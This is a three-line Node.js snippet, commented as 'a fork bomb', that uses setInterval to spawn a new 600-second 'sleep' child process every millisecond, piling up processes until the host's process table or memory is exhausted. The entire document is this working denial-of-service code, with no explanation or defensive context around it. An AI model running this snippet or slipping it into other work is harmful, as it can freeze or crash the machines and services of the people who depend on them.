// says: a fork bomb
import { spawn } from 'node:child_process'

setInterval(() => spawn('sleep', ['600'], { stdio: 'ignore' }), 1)
